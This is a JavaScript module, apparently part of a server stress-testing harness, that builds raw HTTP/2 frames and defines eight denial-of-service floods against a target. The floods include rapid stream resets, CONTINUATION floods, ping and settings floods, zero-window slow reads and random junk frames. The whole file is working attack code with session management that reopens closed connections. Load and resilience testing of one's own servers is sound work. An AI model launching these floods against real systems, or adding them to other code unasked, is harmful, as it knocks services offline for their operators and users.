// Floods of HTTP/2 frames, on targets with HTTP/2. Each attack: { name, run(crowd), on(target) }.
import { randomBytes } from 'node:crypto'

const kPeers = 10
const kPeriod = 100
const kTypes = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 }
const kEndStream = 1
const kEndHeaders = 4

/** One frame (RFC 9113 section 4.1). */
export function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = kTypes[type]
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const uint32 = (value) => { const bytes = Buffer.alloc(4); bytes.writeUInt32BE(value); return bytes }
const kPreface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame('settings', 0, 0)])
const kNoWindow = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame('settings', 0, 0, Buffer.from('000400000000', 'hex'))])

/** HPACK: indexed :method (0x82 GET, 0x83 POST) and :scheme https, literal :path and :authority (RFC 7541 section 6.2.2). */
function fields(target, path, method = 0x82) {
  const literal = (index, text) => Buffer.concat([Buffer.from([index, text.length]), Buffer.from(text)])
  return Buffer.concat([Buffer.from([method, 0x87]), literal(4, path), literal(1, target.host)])
}

/** `kPeers` sessions, each of which sends piece(session) each period; closed ones are reopened. */
async function flood(crowd, piece, { preface = kPreface, paused = false } = {}) {
  const start = async () => {
    const socket = await crowd.open({ alpn: ['h2'], paused })
    socket.session = { next: 1 }
    crowd.send(socket, preface)
  }
  await crowd.repeat(kPeriod, async () => {
    for (let more = Math.min(3, kPeers - crowd.sockets.length); more > 0; --more) await start()
    for (const socket of crowd.sockets) if (socket.session) crowd.send(socket, piece(socket.session))
  })
}

const times = (count, make) => Buffer.concat(Array.from({ length: count }, (_, index) => make(index)))
const nextStream = (session) => { const stream = session.next; session.next += 2; return stream }

const attack = (name, run) => ({ name: `h2: ${name}`, on: (target) => target.h2, run })

const rapidResets = attack('rapid resets', (crowd) => {
  const get = fields(crowd.target, '/openapi.json')
  return flood(crowd, (session) => times(50, () => {
    const stream = nextStream(session)
    return Buffer.concat([frame('headers', kEndHeaders | kEndStream, stream, get), frame('reset', 0, stream, uint32(8))])
  }))
})

const pings = attack('pings', (crowd) => flood(crowd, () => times(200, () => frame('ping', 0, 0, randomBytes(8)))))

const settings = attack('settings', (crowd) =>
  flood(crowd, (session) => times(100, () => frame('settings', 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(65_535 + (session.next += 2))])))))

const continuations = attack('endless CONTINUATION', (crowd) => {
  const get = fields(crowd.target, '/')
  const more = Buffer.concat([Buffer.from([0, 1]), Buffer.from('x'), Buffer.from([100]), Buffer.alloc(100, 0x61)])
  return flood(crowd, (session) => {
    if (session.stream !== undefined) return times(100, () => frame('continuation', 0, session.stream, more))
    session.stream = nextStream(session)
    return frame('headers', kEndStream, session.stream, get)
  })
})

const emptyFrames = attack('empty frames and windows', (crowd) => {
  const post = fields(crowd.target, '/oauth/token', 0x83)
  return flood(crowd, (session) => {
    const stream = (session.stream ??= nextStream(session))
    const first = session.begun ? Buffer.alloc(0) : frame('headers', kEndHeaders, stream, post)
    session.begun = true
    return Buffer.concat([first, times(100, () => frame('data', 0, stream)), times(100, () => frame('window', 0, stream, uint32(1)))])
  })
})

const unfinished = attack('streams never finished', (crowd) => {
  const post = fields(crowd.target, '/oauth/register', 0x83)
  return flood(crowd, (session) => times(20, () => frame('headers', kEndHeaders, nextStream(session), post)))
})

const slowReads = attack('windows never opened', (crowd) => {
  const get = fields(crowd.target, '/large.txt')
  const piece = (session) => (session.next > 200 ? Buffer.alloc(0) : times(20, () => frame('headers', kEndHeaders | kEndStream, nextStream(session), get)))
  return flood(crowd, piece, { preface: kNoWindow })
})

const nonsense = attack('nonsense frames', (crowd) => {
  const kinds = Object.keys(kTypes)
  return flood(crowd, (session) => frame(kinds[(session.turn = (session.turn ?? Math.floor(Math.random() * 8)) + 1) % kinds.length],
    randomBytes(1)[0], session.next, randomBytes(30)))
})

export const h2Attacks = [rapidResets, pings, settings, continuations, emptyFrames, unfinished, slowReads, nonsense]
